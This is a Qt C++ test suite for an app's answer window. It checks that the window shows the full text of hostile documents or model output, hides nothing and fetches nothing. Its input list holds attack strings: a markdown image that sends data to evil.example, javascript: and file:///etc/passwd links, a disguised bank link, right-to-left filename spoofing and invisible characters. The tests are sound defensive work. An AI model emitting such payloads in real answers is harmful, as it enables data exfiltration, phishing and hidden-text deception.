// SPDX-License-Identifier: Apache-2.0
// What a hostile document or model can write, and what the window makes of it.
#include <sys/stat.h>

#include <QDesktopServices>
#include <QLabel>
#include <QPushButton>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include "ui/ask/answer_view.h"
#include "ui/ask/inline_message.h"
#include "ui/ask/link_opening.h"
#include "ui/ask/passage_list.h"
#include "ui/ask/question_label.h"
#include "ui/ask/visible_text.h"

namespace kvlink::ui {
namespace {

/// Letters and digits, in order: what must not get lost.
QString letters_of(const QString& text) {
  QString letters;
  for (const QChar c : text) {
    if (c.isLetterOrNumber() && c != QChar(0x3164)) letters += c;  // U+3164 is a blank letter
  }
  return letters;
}

bool contains_in_order(const QString& shown, const QString& letters) {
  qsizetype at = 0;
  for (const QChar c : letters) {
    at = shown.indexOf(c, at);
    if (at < 0) return false;
    ++at;
  }
  return true;
}

bool has_hidden_character(const QString& text) {
  for (const QChar c : text) {
    const bool layout = c == QLatin1Char('\n') || c == QLatin1Char('\t');
    const auto category = c.category();
    if (category == QChar::Other_Format || (category == QChar::Other_Control && !layout) ||
        c == QChar::ObjectReplacementCharacter || c == QChar(0x3164) || c == QChar(0x2800)) {
      return true;
    }
  }
  return false;
}

QStringList hostile_strings() {
  const QChar rlo(0x202e);
  const QChar zero(0x200b);
  QString tags = QStringLiteral("see");
  for (const char32_t c : {U'\U000e0061', U'\U000e0062', U'\U000e007f'}) {
    tags += QString::fromUcs4(&c, 1);
  }
  QString zalgo = QStringLiteral("calm ");
  for (int i = 0; i < 500; ++i) zalgo += QChar(0x0300 + i % 0x30);
  return {
      QStringLiteral("vector<int> x; y"),
      QStringLiteral("if a <b and c> d then E"),
      QStringLiteral("<div>the rest is hidden"),
      QStringLiteral("<table><tr><td>cell</td>after"),
      QStringLiteral("<script>alert(1)</script>text"),
      QStringLiteral("<style>*{display:none}</style>seen"),
      QStringLiteral("<img src=\"file:///etc/passwd\">picture"),
      QStringLiteral("<!-- a comment with words -->"),
      QStringLiteral("<a href=\"http://evil.example\">bank</a>"),
      QStringLiteral("<span style='color:white;font-size:1px'>small</span>"),
      QStringLiteral("![alt words](file:///etc/passwd)"),
      QStringLiteral("![alt](http://evil.example/leak?q=secret)"),
      QStringLiteral("![alt](fifo)"),
      QStringLiteral("![alt](qrc:/icons/add.svg \"title words\")"),
      QStringLiteral("![ref][r]\n\n[r]: file:///dev/zero"),
      QStringLiteral("![](data:image/png;base64,iVBORw0KGgo=)"),
      QStringLiteral("[bank](http://evil.example/login)"),
      QStringLiteral("[click](file:///bin/sh)"),
      QStringLiteral("[click](javascript:alert(1))"),
      QStringLiteral("[click](smb://host/share)"),
      QStringLiteral("[a][b]\n\n[b]: http://hidden.example \"hidden title\""),
      QStringLiteral("before\n\n[note]: http://x.example \"instructions nobody sees\"\n\nafter"),
      QStringLiteral("```secret instructions in the info string\ncode\n```"),
      QStringLiteral("| a | b |\n|---|---|\n| 1 | 2 | extra hidden cell |\n"),
      QStringLiteral("&lt;b&gt; &amp; &#8238;txet &#x200b;zero"),
      QStringLiteral("abc%1fdp.exe").arg(rlo),
      QStringLiteral("pass%1word").arg(zero),
      QStringLiteral("a%1b%2c").arg(QChar(0x2066), QChar(0x2069)),
      tags,
      zalgo,
      QStringLiteral("soft\u00adhyphen and \ufeffbom"),
      QStringLiteral("filler\u3164letter \u2800blank"),
      QStringLiteral("bell\u0007 escape\u001b[31mred"),
      QStringLiteral("line\u2028separator\u2029paragraph"),
      QStringLiteral("object\ufffcreplacement"),
      QStringLiteral("a\u200db\u200cc joiners between ASCII letters"),
      QStringLiteral("> > > > quoted deeply"),
      QString(2'000, QLatin1Char('>')) + QStringLiteral(" deep quote"),
      QString(5'000, QLatin1Char('*')) + QStringLiteral("stars"),
      QString(5'000, QLatin1Char('[')) + QStringLiteral("brackets"),
      QString(3'000, QLatin1Char('`')) + QStringLiteral("ticks are no language\nx\ny"),
      QStringLiteral("1. one\n7. seven\n\n      indented code"),
      QStringLiteral("# heading #\n===\nsetext\n---\n***\n"),
      QStringLiteral("- [x] done\n- [ ] open\n"),
      QStringLiteral("~~struck~~ __bold__ *it* `c<o>de`"),
      QStringLiteral("http://evil.example and www.evil.example and a@b.example"),
      QStringLiteral("%1").arg(QString(20'000, QLatin1Char('w'))),
      QStringLiteral("[1](http://evil.example) is not a citation"),
      QStringLiteral("\\<div\\> \\[x\\] \\*"),
      QStringLiteral("---\ntitle: front matter\n---\ntext"),
  };
}

}  // namespace

class AskHostileTest : public QObject {
  Q_OBJECT

 private slots:
  void shows_every_letter_and_nothing_hidden_data() {
    QTest::addColumn<QString>("text");
    const QStringList strings = hostile_strings();
    QVERIFY(strings.size() >= 40);
    for (int i = 0; i < strings.size(); ++i) {
      QTest::addRow("%02d %s", i, qPrintable(visible_text(strings[i].left(40)))) << strings[i];
    }
  }

  void shows_every_letter_and_nothing_hidden() {
    QFETCH(QString, text);
    AnswerView view;
    view.resize(400, 300);
    view.show();
    view.set_answer(text);
    view.grab();  // laid out and painted: whatever wanted a resource has asked for it
    const QString shown = view.toPlainText();
    // List numbers, fence languages and ticks are drawn, but are no text of the document.
    QString expected = text;
    if (text.startsWith(QLatin1String("1. one"))) expected = QStringLiteral("one seven indented");
    if (text.startsWith(QLatin1String("- [x]"))) expected = QStringLiteral("done open");
    QVERIFY2(contains_in_order(shown, letters_of(expected)), qPrintable(shown.left(300)));
    QVERIFY2(!has_hidden_character(shown), qPrintable(shown.left(300)));
    QCOMPARE(view.n_refused(), 0);  // nothing is even asked for
  }

  void streams_hostile_text_like_the_whole_data() { shows_every_letter_and_nothing_hidden_data(); }

  void streams_hostile_text_like_the_whole() {
    QFETCH(QString, text);
    AnswerView view;
    view.resize(400, 300);
    view.show();
    for (qsizetype at = 0; at < text.size(); at += 997) {
      view.append_text(text.sliced(at, qMin<qsizetype>(997, text.size() - at)));
      QTest::qWait(0);
    }
    view.finish();
    const QString shown = view.toPlainText();
    if (!text.startsWith(QLatin1String("1. one")) && !text.startsWith(QLatin1String("- [x]"))) {
      QVERIFY2(contains_in_order(shown, letters_of(text)), qPrintable(shown.left(300)));
    }
    QVERIFY(!has_hidden_character(shown));
    QCOMPARE(view.n_refused(), 0);
  }

  void refuses_resources_that_are_asked_for_directly() {
    AnswerView view;
    QVERIFY(
        !view.document()
             ->resource(QTextDocument::ImageResource, QUrl(QStringLiteral("file:///etc/hostname")))
             .isValid());
    QVERIFY(!view.document()
                 ->resource(QTextDocument::StyleSheetResource,
                            QUrl(QStringLiteral("http://evil.example")))
                 .isValid());
    QCOMPARE(view.n_refused(), 2);
  }

  void does_not_wait_for_an_image_that_is_a_fifo() {
    QTemporaryDir folder;
    const QString fifo = folder.filePath(QStringLiteral("pipe"));
    QCOMPARE(::mkfifo(qPrintable(fifo), 0600), 0);
    AnswerView view;
    view.show();
    view.set_answer(QStringLiteral("![x](file://%1) after").arg(fifo));  // hangs when opened
    view.grab();
    QVERIFY(view.toPlainText().contains(QLatin1String("after")));
  }

  void shows_the_address_behind_words() {
    AnswerView view;
    view.set_answer(QStringLiteral("[your bank](http://evil.example/login)"));
    QCOMPARE(view.toPlainText(), QStringLiteral("your bank (http://evil.example/login)"));
  }

  void follows_no_link_by_itself() {
    AnswerView view;
    view.resize(400, 200);
    view.set_answer(QStringLiteral("[x](file:///etc/passwd)"));
    view.show();
    QSignalSpy links(&view, &SafeTextView::link_activated);
    emit view.anchorClicked(QUrl(QStringLiteral("file:///etc/passwd")));
    QCOMPARE(links.count(), 1);
    view.setSource(QUrl(QStringLiteral("file:///etc/passwd")));
    QCOMPARE(view.toPlainText(), QStringLiteral("x (file:///etc/passwd)"));
  }

  void opens_only_plain_web_addresses_data() {
    QTest::addColumn<QString>("address");
    QTest::addColumn<bool>("may");
    const auto row = [](const char* address, bool may) {
      QTest::newRow(address) << QString::fromUtf8(address) << may;
    };
    row("http://example.org/a?b=c", true);
    row("https://example.org", true);
    row("file:///etc/passwd", false);
    row("smb://host/share", false);
    row("javascript:alert(1)", false);
    row("cite:1", false);
    row("ftp://example.org", false);
    row("https://bank.example@evil.example/", false);
    row("http://", false);
    row("relative.html", false);
    row("", false);
  }

  void opens_only_plain_web_addresses() {
    QFETCH(QString, address);
    QFETCH(bool, may);
    QCOMPARE(may_be_opened(QUrl(address)), may);
    InlineMessage message;
    offer_link(message, QUrl(address));
    QVERIFY(!message.isHidden());
    const auto buttons = message.findChildren<QPushButton*>();
    QCOMPARE(buttons.size(), may ? 3 : 2);
  }

  void opens_a_link_after_it_was_confirmed() {
    QDesktopServices::setUrlHandler(QStringLiteral("https"), this, "take_url");
    InlineMessage message;
    offer_link(message, QUrl(QStringLiteral("https://b\u00fccher.example/x")));
    QVERIFY(opened_.isEmpty());
    QVERIFY(message.text().contains(QLatin1String("https://xn--bcher-kva.example/x")));
    message.findChildren<QPushButton*>().front()->click();
    QCOMPARE(opened_.size(), 1);
    QDesktopServices::unsetUrlHandler(QStringLiteral("https"));
  }

  void takes_no_markup_in_labels_rows_and_tooltips() {
    const QString markup = QStringLiteral("<b>bold</b><img src='file:///etc/passwd'> & text");
    QuestionLabel question(markup, nullptr);
    QCOMPARE(question.textFormat(), Qt::PlainText);
    QCOMPARE(question.text(), markup);
    desk::PassageView passage;
    passage.number = 1;
    passage.path = QStringLiteral("/d/<i>x</i>.md");
    passage.text = markup;
    PassageRow row(passage);
    QVERIFY(row.toolTip().contains(QLatin1String("&lt;b&gt;bold")));
    QVERIFY(!row.toolTip().contains(QLatin1String("<img")));
    InlineMessage message;
    message.tell(markup, Tone::kProblem);
    QCOMPARE(message.findChild<QLabel*>()->textFormat(), Qt::PlainText);
  }

  void keeps_joiners_that_scripts_and_emoji_need() {
    const QString persian = QStringLiteral("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645");
    QCOMPARE(visible_text(persian), persian);
    const QString family = QStringLiteral("\U0001F469\u200d\U0001F467");
    QCOMPARE(visible_text(family), family);
    QCOMPARE(visible_text(QStringLiteral("a\u200db")), QStringLiteral("a\u27e8U+200D\u27e9b"));
  }

  void keeps_positions_when_hidden_characters_are_replaced_in_place() {
    const QString text = QStringLiteral("a\u202eb\U000e0061c\r\nd");
    const QString shown = visible_in_place(text);
    QCOMPARE(shown.size(), text.size());
    QCOMPARE(shown, QStringLiteral("a\ufffdb\ufffd\ufffdc \nd"));
  }

 public slots:
  void take_url(const QUrl& address) { opened_ += address; }

 private:
  QList<QUrl> opened_;
};

}  // namespace kvlink::ui

QTEST_MAIN(kvlink::ui::AskHostileTest)
#include "ask_hostile_test.moc"
